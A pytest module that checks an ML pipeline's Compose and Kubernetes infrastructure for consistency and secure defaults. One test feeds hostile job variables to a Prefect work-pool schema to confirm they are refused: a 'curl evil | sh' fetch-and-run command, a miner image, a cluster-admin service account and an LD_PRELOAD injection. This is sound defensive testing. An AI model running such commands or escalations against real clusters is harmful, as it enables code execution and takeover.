"""infra/: what can be checked on a machine without Docker Compose or a Kubernetes cluster. The
compose file and the manifests parse and hang together (names, secrets, images pinned), kustomize
builds the manifests offline, the work-pool job template declares every variable it uses, the
Dockerfile copies files that exist, the production profile loads, and a URL DVC remote (MinIO)
is configured as is. `docker compose config` and a server-side dry run are not possible here."""
from __future__ import annotations

import json
import re
import shutil
import subprocess

import pytest
import yaml
from conftest import ROOT

INFRA = ROOT / "infra"


def manifests() -> list[dict]:
    docs = []
    for path in sorted((INFRA / "k8s").glob("[0-9]*.yaml")):
        docs += [d for d in yaml.safe_load_all(path.read_text()) if d]
    return docs


def test_compose_file_has_the_production_services():
    compose = yaml.safe_load((INFRA / "docker-compose.yml").read_text())
    services = compose["services"]
    assert set(services) == {"postgres", "minio", "buckets", "prefect-server", "mlflow", "worker"}
    for name, service in services.items():
        assert ":" in service["image"] and not service["image"].endswith(":latest"), name   # pinned
        for dep in service.get("depends_on", {}):
            assert dep in services, (name, dep)
    assert services["prefect-server"]["image"].startswith("prefecthq/prefect:3.8.8")
    assert "postgresql+asyncpg://" in services["prefect-server"]["environment"]["PREFECT_SERVER_DATABASE_CONNECTION_URL"]
    mlflow = " ".join(services["mlflow"]["command"])
    assert "mlflow server" in mlflow and "--artifacts-destination s3://adaptflow-mlflow" in mlflow
    assert "MLFLOW_BACKEND_STORE_URI=\"postgresql://" in " ".join(services["mlflow"]["entrypoint"])
    assert "adaptflow deploy" in " ".join(services["worker"]["command"])
    for path in ("postgres-init.sh", "minio-users.sh", "secrets-env.sh"):   # mounted from infra/
        assert (INFRA / path).is_file(), path
    if shutil.which("docker") and subprocess.run(["docker", "compose", "version"], capture_output=True).returncode == 0:
        done = subprocess.run(["docker", "compose", "-f", str(INFRA / "docker-compose.yml"), "config", "--quiet"],
                              capture_output=True, text=True)
        assert done.returncode == 0, done.stderr


def test_kubernetes_manifests_hang_together():
    docs = manifests()
    kinds = {(d["kind"], d["metadata"]["name"]) for d in docs}
    for needed in [("StatefulSet", "postgres"), ("Deployment", "minio"), ("Deployment", "prefect-server"),
                   ("Deployment", "mlflow"), ("Deployment", "prefect-worker"), ("Role", "prefect-worker"),
                   ("RoleBinding", "prefect-worker"), ("ServiceAccount", "prefect-worker"), ("Job", "minio-buckets")]:
        assert needed in kinds, needed
    assert all(d["metadata"].get("namespace") == "adaptflow" for d in docs if d["kind"] != "Namespace")
    text = "\n".join(p.read_text() for p in sorted((INFRA / "k8s").glob("[0-9]*.yaml")))
    secret_keys = set(re.findall(r"name: adaptflow-secrets, key: ([\w-]+)", text))
    readme = (INFRA / "README.md").read_text()
    for key in secret_keys:   # the README's `kubectl create secret` names every key the manifests read
        assert f"--from-literal={key}=" in readme, key
    worker = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"] == "prefect-worker")
    command = worker["spec"]["template"]["spec"]["containers"][0]["command"]
    assert command[-4:] == ["--pool", "adaptflow-k8s", "--type", "kubernetes"]


@pytest.mark.skipif(not shutil.which("kubectl"), reason="kubectl not installed")
def test_kustomize_builds_the_manifests_offline():
    done = subprocess.run(["kubectl", "kustomize", str(INFRA / "k8s")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    built = [d for d in yaml.safe_load_all(done.stdout) if d]
    assert len(built) == len(manifests())


def test_work_pool_template_declares_every_variable_it_uses():
    template = json.loads((INFRA / "k8s" / "work-pool-template.json").read_text())
    used = set(re.findall(r"\{\{\s*(\w+)\s*\}\}", json.dumps(template["job_configuration"])))
    declared = set(template["variables"]["properties"])
    assert used <= declared, used - declared
    job = template["job_configuration"]["job_manifest"]
    assert job["kind"] == "Job" and job["spec"]["template"]["spec"]["containers"][0]["image"] == "adaptflow:0.1.0"
    assert template["variables"]["properties"]["namespace"]["default"] == "adaptflow"


def test_work_pool_users_cannot_choose_what_runs():
    """Issue 27, finding 13. Old template: `image`, `command` and `service_account_name` were
    variables, so any Prefect-API user could run any image and command under any service account
    (a deployment's or a run's job variables). Now they are fixed in the template, and the Prefect
    server's own validation (the schema check it runs on deployments and runs) refuses them."""
    from prefect.utilities.schema_tools.validation import ValidationError, validate

    template = json.loads((INFRA / "k8s" / "work-pool-template.json").read_text())
    schema = template["variables"]
    assert not {"image", "command", "service_account_name"} & set(schema["properties"])
    for chosen in ({"image": "attacker/miner:latest"}, {"command": "sh -c 'curl evil | sh'"},
                   {"service_account_name": "cluster-admin"}, {"env": {"LD_PRELOAD": "/tmp/x.so"}}):
        with pytest.raises(ValidationError):
            validate(chosen, schema, raise_on_error=True, preprocess=True, ignore_required=True)
    validate({"memory_limit": "16Gi", "gpus": 1}, schema, raise_on_error=True, preprocess=True, ignore_required=True)
    # Rendered with Prefect's templating (what a worker applies), the values forced in anyway: the job is unchanged.
    from prefect.utilities.templating import apply_values

    forced = {"image": "attacker/miner:latest", "command": "sh", "service_account_name": "cluster-admin"}
    rendered = json.dumps(apply_values(template["job_configuration"], forced))
    assert "attacker" not in rendered and "cluster-admin" not in rendered and '"sh"' not in rendered
    spec = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
    assert spec["serviceAccountName"] == "default" and spec["automountServiceAccountToken"] is False
    assert spec["containers"][0]["args"] == ["prefect", "flow-run", "execute"] and "{{ image }}" not in rendered


def test_dockerfile_copies_files_that_exist():
    for line in (INFRA / "Dockerfile").read_text().splitlines():
        if line.startswith("COPY "):
            for source in line.split()[1:-1]:
                assert (ROOT / source).exists(), source


def test_production_profile_and_a_url_dvc_remote(tmp_path):
    from tasks.config import load_settings
    from tasks.data.dvc import ensure_dvc

    settings = load_settings(ROOT / "params.yaml", "production")
    assert settings.data.dvc_remote.startswith("s3://adaptflow-dvc")
    subprocess.run(["git", "init", "--quiet"], cwd=tmp_path, check=True)
    ensure_dvc(tmp_path, settings.data.dvc_remote)   # no network: dvc only writes the config
    assert f"url = {settings.data.dvc_remote}" in (tmp_path / ".dvc" / "config.local").read_text()



# ---- secure by default: each check fails on the files before it -----------
# A password or key written into a URL or argument: user:secret@ with a literal secret.
LITERAL_CREDENTIALS = re.compile(r"://[^/\s:@]+:[^@\s$]+@")
SECRET_NAMES = re.compile(r"PASSWORD|SECRET|AUTH_STRING|ACCESS_KEY")


def argv(spec: dict) -> str:
    """What ends up on a process's command line: entrypoint/command/args, as one string."""
    parts = [spec.get(k) for k in ("entrypoint", "command", "args")]
    return " ".join(" ".join(p) if isinstance(p, list) else str(p) for p in parts if p)


def secret_names(service: dict, field: str) -> set[str]:
    return {x[field] if isinstance(x, dict) else x for x in service.get("secrets", [])}


def test_compose_is_secure_by_default():
    compose = yaml.safe_load((INFRA / "docker-compose.yml").read_text())
    s = compose["services"]
    readme = (INFRA / "README.md").read_text()
    # Both servers authenticate; the worker signs in to both with the pipeline's own accounts.
    assert "--app-name basic-auth" in argv(s["mlflow"]) and s["mlflow"]["environment"]["MLFLOW_AUTH_CONFIG_PATH"]
    assert "MLFLOW_FLASK_SERVER_SECRET_KEY" in secret_names(s["mlflow"], "target")
    assert "PREFECT_SERVER_API_AUTH_STRING" in secret_names(s["prefect-server"], "target")
    assert {"PREFECT_API_AUTH_STRING", "MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD"} <= secret_names(s["worker"], "target")
    # One credential per service: the MinIO root only where MinIO needs it; MLflow's and the
    # pipeline's object-store users differ; no service but PostgreSQL holds its superuser.
    for name, service in s.items():
        sources = secret_names(service, "source")
        if name not in ("minio", "buckets"):
            assert not sources & {"minio-root-user", "minio-root-password"}, name
        if name != "postgres":
            assert "postgres-superuser-password" not in sources, name
    assert {"mlflow-s3-key-id", "mlflow-s3-secret"} <= secret_names(s["mlflow"], "source")
    assert {"dvc-s3-key-id", "dvc-s3-secret"} <= secret_names(s["worker"], "source")
    assert not secret_names(s["worker"], "source") & {"mlflow-s3-key-id", "mlflow-db-password"}
    # Secrets only from files: no value interpolated from the environment, none in an environment
    # value or on a command line; PostgreSQL's password from a file.
    assert not re.search(r"(?<!\$)\$\{\w+\}", (INFRA / "docker-compose.yml").read_text())
    for name, service in s.items():
        assert not LITERAL_CREDENTIALS.search(argv(service)), name
        for key, value in (service.get("environment") or {}).items():
            assert not SECRET_NAMES.search(key) or str(value).startswith("/run/secrets/"), (name, key)
            assert not LITERAL_CREDENTIALS.search(str(value)), (name, key)
    assert s["postgres"]["environment"]["POSTGRES_PASSWORD_FILE"].startswith("/run/secrets/")
    for name, spec in compose["secrets"].items():
        assert spec["file"].startswith("./secrets/") and spec["file"].removeprefix("./") in readme, name
    # PostgreSQL is on a network of its own with the two servers and the worker, whose only
    # database account is the tuning studies' (role optuna), not the servers' stores.
    assert {n for n, v in s.items() if "db" in v.get("networks", [])} == {"postgres", "prefect-server", "mlflow", "worker"}
    assert "optuna-db-password" in secret_names(s["worker"], "source")
    assert not secret_names(s["worker"], "source") & {"prefect-db-password", "mlflow-db-password"}
    # The production profile's study storage is an environment variable that the compose worker
    # builds from its password file and the Kubernetes job secret documents.
    storage = yaml.safe_load((ROOT / "params.yaml").read_text())["profiles"]["production"]["tune"]["storage"]
    variable = storage.removeprefix("env:")
    assert storage.startswith("env:") and f"export {variable}=" in argv(s["worker"])
    assert f"{variable}=postgresql://optuna:" in readme
    # The adaptflow image runs as an unprivileged user.
    users = [line.split()[1] for line in (INFRA / "Dockerfile").read_text().splitlines() if line.startswith("USER ")]
    assert users and users[-1] not in ("root", "0")


def pod_spec(doc: dict) -> dict:
    return doc["spec"]["template"]["spec"] if doc["kind"] in ("Deployment", "StatefulSet", "Job") else {}


def test_kubernetes_is_secure_by_default():
    docs = manifests()
    containers = {doc["metadata"]["name"]: c for doc in docs for c in pod_spec(doc).get("containers", [])}
    assert "--app-name basic-auth" in argv(containers["mlflow"])
    secret_env = {name: {e["name"] for e in c.get("env", []) if "valueFrom" in e} for name, c in containers.items()}
    assert {"PREFECT_SERVER_API_AUTH_STRING", "PREFECT_SERVER_DATABASE_PASSWORD"} <= secret_env["prefect-server"]
    assert "PREFECT_API_AUTH_STRING" in secret_env["prefect-worker"]
    assert {"MLFLOW_BACKEND_STORE_URI", "MLFLOW_FLASK_SERVER_SECRET_KEY"} <= secret_env["mlflow"]
    for name, c in containers.items():   # secrets by reference only; none on a command line
        assert not LITERAL_CREDENTIALS.search(argv(c)) and "$MLFLOW_BACKEND_STORE_URI" not in argv(c), name
        for e in c.get("env", []):
            assert not SECRET_NAMES.search(e["name"]) or "valueFrom" in e, (name, e["name"])
    root_users = {doc["metadata"]["name"] for doc in docs
                  if re.search(r"key: minio-(user|password)\b", yaml.safe_dump(doc).replace("'", ""))}
    assert root_users <= {"minio", "minio-buckets"}, root_users
    mlflow_keys = {e["valueFrom"]["secretKeyRef"]["key"] for e in containers["mlflow"]["env"] if "valueFrom" in e}
    assert {"mlflow-s3-key-id", "mlflow-s3-secret"} <= mlflow_keys
    policies = [d for d in docs if d["kind"] == "NetworkPolicy"]
    assert any(p["spec"]["podSelector"] == {} and p["spec"]["policyTypes"] == ["Ingress"] and not p["spec"].get("ingress")
               for p in policies), "no default-deny ingress policy"
    protected = {p["spec"]["podSelector"].get("matchLabels", {}).get("app") for p in policies}
    postgres_clients = {peer["podSelector"]["matchLabels"]["app"] for p in policies
                        if p["spec"]["podSelector"].get("matchLabels", {}).get("app") == "postgres"
                        for rule in p["spec"]["ingress"] for peer in rule["from"]}
    assert postgres_clients == {"prefect-server", "mlflow", "adaptflow-job"}   # jobs: the tuning studies
    assert {"postgres", "minio", "mlflow", "prefect-server"} <= protected
    template = json.loads((INFRA / "k8s" / "work-pool-template.json").read_text())
    pod = template["job_configuration"]["job_manifest"]["spec"]["template"]
    assert pod["metadata"]["labels"]["app"] == "adaptflow-job" and pod["spec"]["securityContext"]["runAsNonRoot"]
    assert not any(m["mountPath"].startswith("/root") for m in pod["spec"]["containers"][0]["volumeMounts"])
    # The scripts embedded in ConfigMaps are the ones in infra/ (one source, two layouts).
    scripts = {k: v for d in docs if d["kind"] == "ConfigMap" for k, v in (d.get("data") or {}).items()}
    for embedded, source in (("10-roles.sh", "postgres-init.sh"), ("minio-users.sh", "minio-users.sh")):
        body = [line for line in (INFRA / source).read_text().splitlines()[1:] if line]
        assert [line for line in scripts[embedded].splitlines()[2:] if line] == body, embedded
